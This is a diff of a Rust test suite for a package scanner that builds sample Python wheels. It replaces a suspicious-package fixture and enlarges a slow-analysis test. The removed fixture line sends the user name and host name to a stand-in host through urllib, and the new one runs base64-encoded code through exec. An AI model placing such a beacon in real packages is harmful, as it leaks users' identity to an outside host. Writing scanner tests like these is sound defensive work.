@@ -188,8 +188,8 @@ fn what_could_not_be_analysed_is_held_and_says_what() {
 
 /// A package on the edge: bad enough to look at, not enough to block.
 fn suspicious() -> Dist {
-    let code = "import os, platform, getpass, urllib.request\n\
-        urllib.request.urlopen('http://x.example.invalid/?u=' + getpass.getuser() + platform.node())\n";
+    // Hidden code that does nothing: worth a look, no attack.
+    let code = "import base64\nexec(base64.b64decode('cHJpbnQoInRoZSBwYXlsb2FkIik='))\n";
     fondaco_testkit::Wheel::new("nosy", "1.0").file("nosy/__init__.py", code).build()
 }
 
@@ -211,8 +211,8 @@ fn a_killed_worker_holds_the_file_and_is_tried_again() {
     // Long sources take an unoptimised engine some seconds.
     let line = "x = [f'{a}' + str(b) for a, b in zip('abc', range(3))]\n";
     let mut wheel = fondaco_testkit::Wheel::new("long-winded", "1.0");
-    for module in 0..6 {
-        wheel = wheel.file(&format!("long_winded/m{module}.py"), line.repeat(100_000));
+    for module in 0..14 {
+        wheel = wheel.file(&format!("long_winded/m{module}.py"), line.repeat(40_000));
     }
     let dist = wheel.build();
     house.upstream.publish(&dist);
